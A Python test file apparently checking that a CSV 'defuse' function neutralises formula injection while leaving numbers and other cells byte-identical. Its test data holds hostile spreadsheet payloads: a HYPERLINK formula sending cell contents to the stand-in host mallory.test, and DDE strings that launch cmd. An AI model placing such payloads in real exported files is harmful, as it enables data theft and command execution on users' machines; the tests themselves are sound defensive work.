"""A file that an operator opens in a spreadsheet runs nothing that mallory has written into it."""

import csv
import io

import pytest

from headwater.console import spreadsheet


def csv_of(*rows):
    text = io.StringIO(newline="")
    csv.writer(text).writerows(rows)
    return text.getvalue().encode()


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://mallory.test?"&A1,"Look")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",  # noqa: RUF001  a wide form
        "-",
        "+1 2",
        "-١",  # noqa: RUF001  a digit of another script: what a spreadsheet makes of it nobody knows
    ],
    ids=range(11),
)
def test_a_text_that_begins_like_a_formula_is_marked_in_any_cell(formula):
    content = csv_of([formula, "b"], ["safe", formula])

    assert csv_of([f"'{formula}", "b"], ["safe", f"'{formula}"]) == spreadsheet.defused(content)


@pytest.mark.parametrize("number", ["-5", "+5", "-1.5e-7", "-.5", "7", "-170141183460469231731687303715884105728"])
def test_a_number_stays_a_number(number):
    content = csv_of(["n"], [number])

    assert content == spreadsheet.defused(content)


def test_everything_else_is_as_it_was_to_the_byte():
    content = csv_of(["a", "b"], ["", 'quote " and, comma'], ["two\nlines", "a,=b"], ["ä中", "x" * 200_000], [""])

    assert content == spreadsheet.defused(content)
